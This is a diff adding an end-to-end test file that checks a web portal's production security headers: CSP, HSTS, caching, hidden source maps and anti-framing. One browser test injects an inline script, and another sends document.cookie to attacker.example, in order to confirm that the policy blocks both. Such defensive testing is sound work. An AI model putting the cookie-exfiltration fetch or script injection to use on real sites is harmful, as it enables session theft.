@@ -1,0 +1,129 @@
+/**
+ * The production server's headers (docs/security.md, "Headers"): what nginx with the shipped configuration (or
+ * `vite preview`, without nginx) sends, and a browser refusing what the policy forbids.
+ */
+import { existsSync } from 'node:fs';
+import path from 'node:path';
+import type { Browser } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import { CACHE_CONTROL, HSTS, sandboxApiUrls, securityHeaders } from '../../scripts/security-headers';
+import { allowCspViolations, cspViolations } from './support/browser';
+import { baseUrl, field, launchBrowser, newPage, sandboxUrl, STEP_TIMEOUT_MS } from './support';
+
+const DIST = path.resolve(import.meta.dirname, '../../dist');
+
+const get = (pathname: string, headers: Record<string, string> = {}) =>
+  fetch(`${baseUrl()}${pathname}`, { headers: { Accept: 'text/html,*/*', ...headers }, redirect: 'manual' });
+
+/** The entry bundle index.html loads: a hashed file under /assets/. */
+async function entryScript(): Promise<string> {
+  const html = await (await get('/auth/login')).text();
+  const src = /<script type="module"[^>]* src="(\/assets\/[^"]+\.js)"/.exec(html)?.[1];
+  if (!src) throw new Error(`no entry script in index.html:\n${html}`);
+  return src;
+}
+
+// A portal already running (E2E_BASE_URL, e.g. the dev server) is not the production server these describe.
+describe.runIf(inject('e2eServer') !== 'external')(`production server headers (${inject('e2eServer')})`, () => {
+  const expected = () => securityHeaders(sandboxApiUrls(sandboxUrl()), { https: false });
+
+  it.each(['/auth/login', '/dashboard', '/administration/user/list'])(
+    '%s is the single-page app with every security header, revalidated on each visit',
+    async (route) => {
+      const res = await get(route);
+      expect(res.status).toBe(200);
+      expect(res.headers.get('content-type')).toMatch(/^text\/html/);
+      for (const [name, value] of Object.entries(expected())) expect(res.headers.get(name), name).toBe(value);
+      expect(res.headers.get('content-security-policy')).toContain(`connect-src ${sandboxUrl()};`);
+      expect(res.headers.get('cache-control')).toBe(CACHE_CONTROL.other);
+      // Over plain http there is no HSTS (a browser would ignore it); behind a TLS-terminating proxy there is.
+      expect(res.headers.get('strict-transport-security')).toBeNull();
+      const proxied = await get(route, { 'X-Forwarded-Proto': 'https' });
+      expect(proxied.headers.get('strict-transport-security')).toBe(HSTS);
+    },
+  );
+
+  it('caches hashed bundles for a year and config.js never; a missing bundle is a 404, not the app', async () => {
+    const script = await get(await entryScript());
+    expect(script.status).toBe(200);
+    expect(script.headers.get('cache-control')).toBe(CACHE_CONTROL.hashed);
+    expect(script.headers.get('x-content-type-options')).toBe('nosniff');
+
+    const config = await get('/config.js');
+    expect(config.status).toBe(200);
+    expect(config.headers.get('content-type')).toMatch(/javascript/);
+    expect(config.headers.get('cache-control')).toBe(CACHE_CONTROL.runtimeConfig);
+
+    const missing = await get('/assets/index-00000000.js');
+    expect(missing.status).toBe(404);
+    expect(missing.headers.get('cache-control')).toBeNull();
+  });
+
+  it('does not serve the source maps the build keeps, nor the build manifest', async () => {
+    const script = await entryScript();
+    expect(existsSync(path.join(DIST, `${script}.map`)), 'the build writes hidden source maps').toBe(true);
+    expect((await get(`${script}.map`)).status).toBe(404);
+    expect(existsSync(path.join(DIST, '.vite', 'manifest.json'))).toBe(true);
+    expect((await get('/.vite/manifest.json')).status).toBe(404);
+    const bundle = await (await get(script)).text();
+    expect(bundle).not.toContain('sourceMappingURL');
+  });
+
+  it('serves the default logo as an image', async () => {
+    const res = await get('/logo.svg');
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toMatch(/^image\/svg\+xml/);
+  });
+
+  describe('in the browser', () => {
+    let browser: Browser;
+    beforeAll(async () => {
+      browser = await launchBrowser();
+    });
+    afterAll(async () => {
+      await browser?.close();
+    });
+
+    it('refuses a script injected into the page and a connection outside the three APIs; the portal still works', async () => {
+      const page = await newPage(browser);
+      allowCspViolations(page);
+      // The real response, headers included, with an attacker's inline script added to the document.
+      await page.route('**/auth/login', async (route) => {
+        const response = await route.fetch();
+        const body = (await response.text()).replace('</head>', '<script>window.__injected = true;</script></head>');
+        await route.fulfill({ response, body });
+      });
+      await page.goto('/auth/login');
+      await field(page, 'Email').waitFor();
+
+      expect(await page.evaluate(() => (window as { __injected?: boolean }).__injected)).toBeUndefined();
+      await expect
+        .poll(() => cspViolations(page).filter((v) => v.startsWith('script-src-elem refused inline')), { timeout: STEP_TIMEOUT_MS })
+        .toHaveLength(1);
+
+      const exfiltration = await page.evaluate(() =>
+        fetch('https://attacker.example/collect', { method: 'POST', body: document.cookie }).then(
+          () => 'sent',
+          () => 'refused',
+        ),
+      );
+      expect(exfiltration).toBe('refused');
+      await expect
+        .poll(() => cspViolations(page).some((v) => v.startsWith('connect-src refused https://attacker.example/collect')), {
+          timeout: STEP_TIMEOUT_MS,
+        })
+        .toBe(true);
+    });
+
+    it('cannot be framed by another page', async () => {
+      const page = await newPage(browser);
+      allowCspViolations(page);
+      await page.setContent(`<iframe title="portal" src="${baseUrl()}/auth/login"></iframe>`);
+      await expect.poll(() => cspViolations(page).some((v) => /frame-ancestors/.test(v)), { timeout: STEP_TIMEOUT_MS }).toBe(true);
+      // Chrome puts its error page in the frame instead of the portal.
+      const frame = page.frames().find((f) => f !== page.mainFrame());
+      expect(frame?.url()).not.toContain(baseUrl());
+      expect(await frame?.locator('#root').count()).toBe(0);
+    });
+  });
+});
